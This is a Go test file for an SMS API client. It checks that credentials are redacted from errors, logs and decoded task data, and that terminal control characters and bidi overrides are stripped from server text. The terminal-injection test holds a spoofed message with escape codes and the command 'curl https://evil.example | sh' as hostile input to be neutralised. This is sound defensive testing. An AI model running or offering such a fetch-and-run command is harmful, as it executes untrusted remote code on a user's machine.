package smsapi

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// assertPrintable fails when s holds a byte that a terminal would interpret.
func assertPrintable(t testing.TB, what, s string) {
	t.Helper()
	for _, r := range s {
		if isControl(r) {
			t.Errorf("%s holds control character %U: %q", what, r, s)
			return
		}
	}
}

// Issue 10, item 1: a URL with user information or a query is never repeated with them.
func TestCheckEndpointURL_NeverRepeatsCredentials(t *testing.T) {
	cases := map[string]string{
		"user info":           "http://admin:PW-secret-1@sms.example.com",
		"user info, no http":  "ftp://admin:PW-secret-1@sms.example.com",
		"token in the query":  "https://sms.example.com/?X-Auth-Token=PW-secret-1",
		"unparseable w/ user": "http://admin:PW-secret-1@sms example.com/%zz",
		"fragment":            "https://sms.example.com/#PW-secret-1",
	}
	for name, raw := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := CheckEndpointURL(raw)
			if err == nil {
				t.Fatalf("CheckEndpointURL(%q) accepted it", raw)
			}
			if strings.Contains(err.Error(), "PW-secret-1") {
				t.Errorf("the error repeats the credential: %v", err)
			}
			if _, err := New(Config{Endpoint: raw, Auth: TokenAuth{Token: testToken}}); err == nil || strings.Contains(err.Error(), "PW-secret-1") {
				t.Errorf("New: %v", err)
			}
		})
	}
	for raw, want := range map[string]string{
		"https://u:p@h.example.com:8443/v3?x=1#f": "https://h.example.com:8443/v3",
		"http://h/path@x?y":                       "http://h/path@x",
		"not a url":                               "not a url",
	} {
		if got := RedactURL(raw); got != want {
			t.Errorf("RedactURL(%q) = %q, want %q", raw, got, want)
		}
	}
}

// Issue 10, item 2: codes, messages and request ids lose their control characters.
func TestClient_APITextCannotDriveTheTerminal(t *testing.T) {
	const fake = "\x1b[2J\x1b[H\x07\rError: Your token has expired\nRun: curl https://evil.example | sh\u202e"
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		body := fmt.Sprintf(`{"error_code":"SMS.\u001b0403","error_msg":%q,"request_id":"rid\u001b[31m"}`, fake)
		writeJSON(w, http.StatusForbidden, body)
	})
	logger := &captureLogger{}
	c := newTestClient(t, srv.URL, func(cfg *Config) { cfg.Logger = logger })
	_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	ae, ok := AsAPIError(err)
	if !ok {
		t.Fatalf("err = %v, want an APIError", err)
	}
	for what, s := range map[string]string{"code": ae.Code, "message": ae.Message, "request id": ae.RequestID, "Error()": ae.Error()} {
		assertPrintable(t, what, s)
	}
	if !strings.Contains(ae.Message, `\x1b[2J`) || !strings.Contains(ae.Message, "Your token has expired") {
		t.Errorf("message = %q, want the text with its escapes shown", ae.Message)
	}
	for _, e := range logger.all() {
		for k, v := range e.fields {
			if s, ok := v.(string); ok {
				assertPrintable(t, "log field "+k, s)
			}
		}
	}

	// The same on a 200 whose body is invalid: the request id header reaches a DecodeError.
	// net/http already refuses ASCII controls in headers; C1 controls and bidi overrides pass.
	bad := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Request-Id", "rid\u0085\u202eevil")
		writeJSON(w, http.StatusOK, "\x1b[2J not json")
	})
	_, err = newTestClient(t, bad.URL).ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	var de *DecodeError
	if !errors.As(err, &de) {
		t.Fatalf("err = %v, want a DecodeError", err)
	}
	assertPrintable(t, "DecodeError", err.Error())
}

// Issue 10, item 4: "Retry-After: 0" and a date in the past keep the normal backoff.
func TestClient_RetryAfterZeroKeepsTheBackoffFloor(t *testing.T) {
	for name, value := range map[string]string{
		"zero":         "0",
		"date in past": time.Now().Add(-time.Hour).UTC().Format(http.TimeFormat),
	} {
		t.Run(name, func(t *testing.T) {
			srv, n := flakyServer(t, 100, func(w http.ResponseWriter) {
				w.Header().Set("Retry-After", value)
				writeJSON(w, http.StatusServiceUnavailable, `{}`)
			})
			const floor = 40 * time.Millisecond
			c := newTestClient(t, srv.URL, func(cfg *Config) {
				cfg.MaxRetries = 4
				cfg.RetryWaitMin = floor
				cfg.RetryWaitMax = 100 * time.Millisecond
			})
			start := time.Now()
			_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
			if _, ok := AsAPIError(err); !ok || n.Load() != 5 {
				t.Fatalf("err = %v after %d requests, want the 503 after 5", err, n.Load())
			}
			// A lower bound only: a loaded machine makes it slower, never faster.
			if elapsed := time.Since(start); elapsed < 4*floor {
				t.Errorf("5 attempts took %s, want at least 4 backoffs of %s", elapsed, floor)
			}
		})
	}
}

// Issue 10, item 5: a huge header is bounded on every error path.
func TestClient_HugeRequestIDIsBounded(t *testing.T) {
	huge := strings.Repeat("r", 500_000)
	for name, status := range map[string]int{"invalid 200": http.StatusOK, "404": http.StatusNotFound, "503": http.StatusServiceUnavailable} {
		t.Run(name, func(t *testing.T) {
			srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("X-Request-Id", huge)
				writeJSON(w, status, `{"count": "many"`)
			})
			c := newTestClient(t, srv.URL, func(cfg *Config) { cfg.MaxRetries = 0 })
			_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
			if err == nil || len(err.Error()) > 2000 {
				t.Errorf("error of %d bytes, want an error below 2000 bytes", len(fmt.Sprint(err)))
			}
		})
	}
}

// Issue 10, item 7: a 200 that carries a Huawei error shows its code and message.
func TestListTasks_ErrorBodyWithStatus200(t *testing.T) {
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, `{"error_code": "SMS.9999", "error_msg": "The system is busy."}`)
	})
	_, err := newTestClient(t, srv.URL).ListTasks(context.Background(), ListTasksQuery{})
	var de *DecodeError
	if !errors.As(err, &de) || !strings.Contains(err.Error(), "error_code SMS.9999") ||
		!strings.Contains(err.Error(), "The system is busy.") || strings.Contains(err.Error(), `"count" is missing`) {
		t.Errorf("err = %v, want a DecodeError with the code and message", err)
	}
}

// Issue 10, item 8: a short secret does not make messages unreadable; standing alone it is masked.
func TestClient_ShortSecretKeepsMessagesReadable(t *testing.T) {
	c := newTestClient(t, "http://127.0.0.1:1", func(cfg *Config) {
		cfg.Auth = TokenAuth{Token: "t"}
		cfg.MaxRetries = 0
	})
	_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	if err == nil || !strings.Contains(err.Error(), "http://127.0.0.1:1/v3/tasks") || strings.Contains(err.Error(), redactedMark) {
		t.Errorf("err = %v, want the URL intact", err)
	}
	echo := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusUnauthorized, `{"error_code":"APIG.1002","error_msg":"token t rejected by the gateway"}`)
	})
	c = newTestClient(t, echo.URL, func(cfg *Config) { cfg.Auth = TokenAuth{Token: "t"} })
	_, err = c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	if ae, ok := AsAPIError(err); !ok || ae.Message != "token [REDACTED] rejected by the gateway" {
		t.Errorf("err = %v, want the standalone token masked and the words intact", err)
	}
}

// Issue 10, item 9: the wording of errors that reach users.
func TestClient_ErrorWording(t *testing.T) {
	t.Run("token with a newline", func(t *testing.T) {
		c := newTestClient(t, "http://127.0.0.1:1", func(cfg *Config) { cfg.Auth = TokenAuth{Token: testToken + "\n"} })
		_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
		if !errors.Is(err, ErrCredentials) || !strings.Contains(err.Error(), "line break") {
			t.Errorf("err = %v, want ErrCredentials naming the line break", err)
		}
	})
	t.Run("no package prefix or Go timeout text", func(t *testing.T) {
		srv := newServer(t, func(w http.ResponseWriter, r *http.Request) { time.Sleep(300 * time.Millisecond) })
		c := newTestClient(t, srv.URL, func(cfg *Config) { cfg.RequestTimeout = 50 * time.Millisecond; cfg.MaxRetries = 0 })
		_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
		if !errors.Is(err, context.DeadlineExceeded) || strings.Contains(err.Error(), "smsapi:") ||
			strings.Contains(err.Error(), "Client.Timeout") || !strings.Contains(err.Error(), "within the request timeout (50ms)") {
			t.Errorf("err = %v", err)
		}
	})
	t.Run("redirect refused", func(t *testing.T) {
		srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://elsewhere.example.com/v3/tasks", http.StatusFound)
		})
		_, err := newTestClient(t, srv.URL).ListTasksPage(context.Background(), ListTasksQuery{}, 0)
		if !errors.Is(err, ErrRedirectRefused) || strings.Contains(err.Error(), "smsapi:") {
			t.Errorf("err = %v, want ErrRedirectRefused", err)
		}
	})
	t.Run("404 names the URL", func(t *testing.T) {
		srv := newServer(t, func(w http.ResponseWriter, r *http.Request) { http.NotFound(w, r) })
		_, err := newTestClient(t, srv.URL).ListTasksPage(context.Background(), ListTasksQuery{}, 0)
		if ae, ok := AsAPIError(err); !ok || ae.URL != srv.URL+"/v3/tasks" {
			t.Errorf("err = %v, want an APIError naming %s/v3/tasks", err, srv.URL)
		}
	})
	t.Run("numbers", func(t *testing.T) {
		for body, want := range map[string]string{
			`{"count":1.0,"tasks":[]}`:                              "1.0 is written with a fraction or an exponent, want a plain integer",
			`{"count":1,"tasks":[{"create_date":1700000000000.0}]}`: "1700000000000.0 is written with a fraction or an exponent",
			`{"count":1,"tasks":[{"migrate_speed":1e400}]}`:         "1e400 is beyond the range of a 64-bit floating-point number",
			`[]`: "the body is a JSON array, want an object",
		} {
			if _, err := decodeTasksPage([]byte(body), 0); err == nil || !strings.Contains(err.Error(), want) {
				t.Errorf("%s: err = %v, want %q", body, err, want)
			}
		}
	})
}

// Issue 10, item 10: a credential echoed inside a task field does not reach the caller.
func TestListTasks_EchoedTokenInTaskFieldsIsMasked(t *testing.T) {
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		tok := r.Header.Get("X-Auth-Token")
		writeJSON(w, http.StatusOK, fmt.Sprintf(`{"count":1,"tasks":[{"id":"t1","name":"copy of %s",
			"error_json":"{\"token\":\"%s\"}","sub_tasks":[{"name":%q}]}]}`, tok, tok, tok))
	})
	list, err := newTestClient(t, srv.URL).ListTasks(context.Background(), ListTasksQuery{})
	if err != nil {
		t.Fatal(err)
	}
	task := list.Items[0]
	assertNoToken(t, "name", *task.Name)
	assertNoToken(t, "error_json", *task.ErrorJSON)
	assertNoToken(t, "sub task name", *task.SubTasks[0].Name)
	if *task.Name != "copy of [REDACTED]" || *task.ID != "t1" {
		t.Errorf("task = %q %q, want the token masked and the rest kept", *task.ID, *task.Name)
	}
}

// Issue 10, item 11: proxy credentials from the environment are masked like the others.
func TestClient_ProxyCredentialEchoIsMasked(t *testing.T) {
	proxy := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		w.WriteHeader(http.StatusProxyAuthRequired)
		fmt.Fprintf(w, "denied: Proxy-Authorization: %s", r.Header.Get("Proxy-Authorization"))
	})
	proxyURL, _ := url.Parse(proxy.URL)
	proxyURL.User = url.UserPassword("ci-user", "proxy-pass-9876")
	t.Setenv("HTTP_PROXY", proxyURL.String())
	c := newTestClient(t, "http://sms.example.invalid")
	// net/http reads the proxy variables once per process; hand the transport this proxy directly.
	at, ok := c.http.Transport.(*authTransport)
	if !ok {
		t.Fatalf("transport is %T", c.http.Transport)
	}
	base, ok := at.base.(*http.Transport)
	if !ok {
		t.Fatalf("base transport is %T", at.base)
	}
	base.Proxy = http.ProxyURL(proxyURL)
	_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	basic := base64.StdEncoding.EncodeToString([]byte("ci-user:proxy-pass-9876"))
	if _, ok := AsAPIError(err); !ok || !strings.Contains(err.Error(), "denied") {
		t.Fatalf("err = %v, want the proxy's 407", err)
	}
	if strings.Contains(err.Error(), basic) || strings.Contains(err.Error(), "proxy-pass-9876") {
		t.Errorf("the error shows the proxy credential: %v", err)
	}
}

// FuzzErrorResponse feeds arbitrary statuses, headers and bodies through the path that turns an
// answer into an error: no panic, no control character, no credential, bounded length.
func FuzzErrorResponse(f *testing.F) {
	f.Add(403, "rid\x1b[2J", []byte(`{"error_code":"SMS.0403","error_msg":"\u001b[2J`+testToken+`"}`))
	f.Add(200, strings.Repeat("r", 5000), []byte(`{"error_code":"SMS.9999","error_msg":"busy"}`))
	f.Add(502, "", []byte("<html><body>\x07Bad gateway "+testToken[:20]+"</body></html>"))
	f.Add(200, "\u202eid", []byte(`{"count":1e400,"tasks":[]}`))
	c := newTestClient(f, "http://127.0.0.1:1")
	f.Fuzz(func(t *testing.T, status int, requestID string, body []byte) {
		if status < 100 || status > 599 {
			status = 500
		}
		ex := &exchange{url: "http://127.0.0.1:1/v3/tasks", status: status,
			header: http.Header{"X-Request-Id": {requestID}}, body: body}
		// readAnswer is what getAnswer does with a final answer: an *APIError for a non-2xx, a
		// *DecodeError for a 2xx it cannot use.
		var msgs []string
		if _, err := readAnswer(c, ex, tasksList.answer(0, 0), new(ListTasksResponse)); err != nil {
			msgs = append(msgs, err.Error())
		}
		for _, msg := range msgs {
			assertPrintable(t, "error", msg)
			assertNoToken(t, "error", msg)
			if n := utf8.RuneCountInString(msg); n > 4*maxMessageLen {
				t.Errorf("error of %d runes", n)
			}
		}
	})
}

// A gateway page can echo a credential with one character escaped (as JSON's \u or HTML's &#)
// or cut short; the message keeps its words but no piece of the credential long enough to use.
func TestClient_PartialEchoesOfACredentialAreMasked(t *testing.T) {
	const token = "MIIsecret-0123456789-abcdefghij-KLMNOPQRST"
	pages := map[string]string{
		"json escape":   `<html><body>token \u004dIIsecret-0123456789-abcdefghij-KLMNOPQRST expired</body></html>`,
		"html entity":   `<html><body>token MIIsecret-01234&#53;6789-abcdefghij-KLMNOPQRST expired</body></html>`,
		"cut short":     `<html><body>token MIIsecret-0123456789-abc... expired</body></html>`,
		"suffix only":   `<html><body>token ...89-abcdefghij-KLMNOPQRST expired</body></html>`,
		"in error_msg":  `{"error_code":"APIG.1002","error_msg":"token \\u004dIIsecret-0123456789-abcdefghij-KLMNOPQRST expired"}`,
		"in request id": ``,
	}
	for name, page := range pages {
		t.Run(name, func(t *testing.T) {
			srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("X-Request-Id", "rid-"+token[1:])
				if strings.HasPrefix(page, "{") {
					writeJSON(w, http.StatusUnauthorized, page)
					return
				}
				w.Header().Set("Content-Type", "text/html")
				w.WriteHeader(http.StatusUnauthorized)
				_, _ = w.Write([]byte(page))
			})
			log := &captureLogger{}
			c := newTestClient(t, srv.URL, func(cfg *Config) {
				cfg.Auth = TokenAuth{Token: token}
				cfg.MaxRetries = 0
				cfg.Logger = log
			})
			_, err := c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
			if err == nil {
				t.Fatal("want an error")
			}
			texts := []string{err.Error()}
			for _, e := range log.all() {
				texts = append(texts, fmt.Sprint(e))
			}
			for _, text := range texts {
				for i := 0; i+partialMatchLen <= len(token); i++ {
					if piece := token[i : i+partialMatchLen]; strings.Contains(text, piece) {
						t.Errorf("piece %q of the token leaked: %s", piece, text)
						break
					}
				}
			}
			if page != "" && !strings.Contains(err.Error(), "token") {
				t.Errorf("err = %v, want the page's words kept", err)
			}
		})
	}
}

// noPieceOf fails when text holds a partialMatchLen piece of secret or one of its encodings.
func noPieceOf(t *testing.T, where, text, secret string) {
	t.Helper()
	for i := 0; i+partialMatchLen <= len(secret); i++ {
		if piece := secret[i : i+partialMatchLen]; strings.Contains(text, piece) {
			t.Errorf("%s holds the piece %q of a credential: %s", where, piece, text)
			return
		}
	}
	for _, enc := range []string{url.QueryEscape(secret), base64.StdEncoding.EncodeToString([]byte(secret))} {
		if strings.Contains(text, enc) {
			t.Errorf("%s holds an encoding of a credential: %s", where, text)
		}
	}
}

// A server may echo a credential into task data cut short, in halves, URL-encoded or as base64:
// none of it reaches the decoded strings, which go to the state. Error messages mask the same
// forms, and a password echoed the way it was sent (encoding/json escapes & < > and ") too.
func TestClient_EncodedAndPartialEchoesAreMasked(t *testing.T) {
	const token = "MIIEabc+def/ghiJKLmnoPQR=stuvWXyz0123=="
	echoes := []string{token[:len(token)-1], token[:18], token[18:], url.QueryEscape(token), base64.StdEncoding.EncodeToString([]byte(token))}
	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		names := make([]string, len(echoes))
		for i, e := range echoes {
			names[i] = fmt.Sprintf(`{"id":"t%d","state":"RUNNING","name":"%s","error_json":"x %s y"}`, i, e, e)
		}
		writeJSON(w, http.StatusOK, `{"count":`+fmt.Sprint(len(echoes))+`,"tasks":[`+strings.Join(names, ",")+`]}`)
	})
	list, err := newTestClient(t, srv.URL, func(cfg *Config) { cfg.Auth = TokenAuth{Token: token} }).ListTasks(context.Background(), ListTasksQuery{})
	if err != nil {
		t.Fatal(err)
	}
	for _, task := range list.Items {
		noPieceOf(t, "task "+*task.ID+" name", *task.Name, token)
		noPieceOf(t, "task "+*task.ID+" error_json", *task.ErrorJSON, token)
		if !strings.HasPrefix(*task.ErrorJSON, "x ") || !strings.HasSuffix(*task.ErrorJSON, " y") {
			t.Errorf("error_json = %q, want the words around the echo kept", *task.ErrorJSON)
		}
	}

	const password = `Tr0ub4dor&3<horse>"battery"staple`
	iam := newServer(t, func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		quoted, _ := json.Marshal(string(body))
		writeJSON(w, http.StatusUnauthorized, `{"error":{"code":401,"message":"bad request `+string(quoted[1:len(quoted)-1])+` urlenc=`+url.QueryEscape(password)+`"}}`)
	})
	log := &captureLogger{}
	c := newTestClient(t, iam.URL, func(cfg *Config) {
		cfg.Auth = &IAMPasswordAuth{AuthURL: iam.URL + "/v3", UserName: "alice", Password: password, DomainName: "acme"}
		cfg.Logger = log
		cfg.MaxRetries = 0
	})
	_, err = c.ListTasksPage(context.Background(), ListTasksQuery{}, 0)
	if err == nil || !strings.Contains(err.Error(), "bad request") {
		t.Fatalf("err = %v, want the IAM error with its message", err)
	}
	texts := []string{err.Error()}
	for _, e := range log.all() {
		texts = append(texts, fmt.Sprint(e))
	}
	for _, text := range texts {
		noPieceOf(t, "an error or log line", text, password)
		if strings.Contains(text, "Tr0ub4dor") {
			t.Errorf("the password shows: %s", text)
		}
	}
}
